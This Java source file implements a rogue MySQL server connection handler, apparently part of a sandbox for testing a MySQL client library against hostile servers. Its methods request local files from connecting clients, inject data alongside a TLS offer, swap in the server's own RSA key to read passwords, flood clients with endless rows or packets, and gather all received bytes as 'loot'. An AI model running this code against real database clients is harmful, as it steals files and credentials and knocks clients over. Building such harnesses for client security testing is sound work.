package io.lava4j.sandbox.rogue;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.util.Arrays;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;

/** One client of a rogue MySQL server. */
final class RogueWire {
    static final String NATIVE = "mysql_native_password";

    private static final int HEADER = 4;
    private static final int PATIENCE_MILLIS = 500;
    private static final int TLS = 0x800;
    private static final int WITHOUT_END_OF_COLUMNS = 0x1000000;
    /** All that matters and a server of today has, local files among them, but TLS and compression. */
    private static final int ABILITIES = 0x13aa28f;

    private static final String SCRAMBLE = "12345678abcdefghijkl";

    private final SSLContext tls;
    private final Loot loot;
    private final String file;
    private Socket socket;
    private int sequence;
    private long clientAbilities;

    RogueWire(Socket socket, SSLContext tls, Loot loot, String file) {
        this.socket = socket;
        this.tls = tls;
        this.loot = loot;
        this.file = file;
    }

    /** Greets without TLS. */
    void greet(String plugin) throws IOException {
        send(greeting(plugin, 0));
    }

    /** Greets and offers TLS. */
    void offerTls() throws IOException {
        send(greeting(NATIVE, TLS));
    }

    /** Greets and offers TLS, and in the same breath sends what is to be taken for part of it. */
    void offerTlsAndInject(Payload injected) throws IOException {
        raw(Payload.of()
                .all(packet(greeting(NATIVE, TLS)))
                .all(packet(injected))
                .toBytes());
    }

    private static Payload greeting(String plugin, int more) {
        int abilities = ABILITIES | more;
        return Payload.of(10)
                .text("8.0.31\0")
                .number(1, 4)
                .text(SCRAMBLE.substring(0, 8) + '\0')
                .number(abilities, 2)
                .bytes(45)
                .number(2, 2)
                .number(abilities >> 16, 2)
                .bytes(21)
                .zeroes(10)
                .text(SCRAMBLE.substring(8) + '\0' + plugin + '\0');
    }

    /** Greets, and takes what the client logs in with. */
    void receiveLogin() throws IOException {
        greet(NATIVE);
        noteAbilities(receive());
    }

    /** Greets, and lets the client in. */
    void letIn() throws IOException {
        receiveLogin();
        ok();
    }

    /** Turns to TLS when the client asks for it, and takes what it logs in with. */
    void receiveLoginOverTls() throws IOException {
        byte[] request = receive();
        noteAbilities(request);
        if ((clientAbilities & TLS) != 0) {
            startTls();
            receive();
        }
    }

    private void startTls() throws IOException {
        SSLSocket secured = (SSLSocket) tls.getSocketFactory().createSocket(socket, null, socket.getPort(), true);
        secured.setUseClientMode(false);
        secured.startHandshake();
        socket = secured;
    }

    private void noteAbilities(byte[] login) {
        clientAbilities = login[0] & 0xff | (login[1] & 0xff) << 8 | (login[2] & 0xff) << 16 | (login[3] & 0xffL) << 24;
    }

    /** Waits for a packet, and takes it. */
    byte[] receive() throws IOException {
        InputStream in = socket.getInputStream();
        byte[] header = exactly(HEADER, in);
        sequence = header[3] + 1;
        int length = header[0] & 0xff | (header[1] & 0xff) << 8 | (header[2] & 0xff) << 16;
        byte[] payload = exactly(length, in);
        loot.add(payload);
        return payload;
    }

    private byte[] exactly(int count, InputStream in) throws IOException {
        byte[] bytes = in.readNBytes(count);
        if (bytes.length < count) {
            loot.add(bytes);
            throw new EOFException("The client has gone");
        }
        return bytes;
    }

    void send(Payload payload) throws IOException {
        raw(packet(payload));
    }

    private byte[] packet(Payload payload) {
        byte[] bytes = payload.toBytes();
        return Payload.of()
                .number(bytes.length, 3)
                .number(sequence++, 1)
                .all(bytes)
                .toBytes();
    }

    /** Sends no packet, only bytes. */
    void raw(byte[] bytes) throws IOException {
        OutputStream out = socket.getOutputStream();
        out.write(bytes);
        out.flush();
    }

    void ok() throws IOException {
        send(Payload.of(0, 0, 0, 2, 0, 0, 0));
    }

    void okAndMore() throws IOException {
        send(Payload.of(0, 0, 0, 10, 0, 0, 0));
    }

    void askForFile() throws IOException {
        send(Payload.of(0xfb).text(file));
    }

    void switchTo(String plugin) throws IOException {
        send(Payload.of(0xfe).text(plugin + "\0abcdefgh12345678ijkl\0"));
    }

    void more(int... values) throws IOException {
        send(Payload.of(1).bytes(values));
    }

    /** What comes before the rows of a result with one column of text. */
    void column() throws IOException {
        send(Payload.of(1));
        columnDefinition();
        if ((clientAbilities & WITHOUT_END_OF_COLUMNS) == 0) {
            send(Payload.of(0xfe, 0, 0, 2, 0));
        }
    }

    void columnDefinition() throws IOException {
        send(Payload.of()
                .counted("def")
                .counted("")
                .counted("")
                .counted("")
                .counted("c")
                .counted("")
                .bytes(12, 45, 0, 0xff, 0xff, 0, 0, 0xfd, 0, 0, 0, 0, 0));
    }

    /** Many at once, each of nothing but a NULL. */
    void endlessRows() throws IOException {
        while (true) {
            var rows = Payload.of();
            for (int i = 0; i < 1_000; i++) {
                rows.number(1, 3).number(sequence++, 1).bytes(0xfb);
            }
            raw(rows.toBytes());
        }
    }

    /** Begins a packet that has no end. */
    void endlessPacket() throws IOException {
        byte[] megabyte = new byte[1 << 20];
        while (true) {
            raw(Payload.of(0xff, 0xff, 0xff).number(sequence++, 1).toBytes());
            for (int i = 0; i < 15; i++) {
                raw(megabyte);
            }
            raw(Arrays.copyOf(megabyte, megabyte.length - 1));
        }
    }

    /** Gives a key of its own, and reads what is encrypted with it. */
    void giveKey() throws IOException {
        var key = new RogueKey();
        send(Payload.of(1).text(key.pem()));
        loot.add(key.open(receive(), SCRAMBLE));
    }

    /** Takes what still comes, until nothing does for a while. */
    void drain() throws IOException {
        socket.setSoTimeout(PATIENCE_MILLIS);
        InputStream in = socket.getInputStream();
        for (int one = in.read(); one >= 0; one = in.read()) {
            loot.add(new byte[] {(byte) one});
        }
    }
}
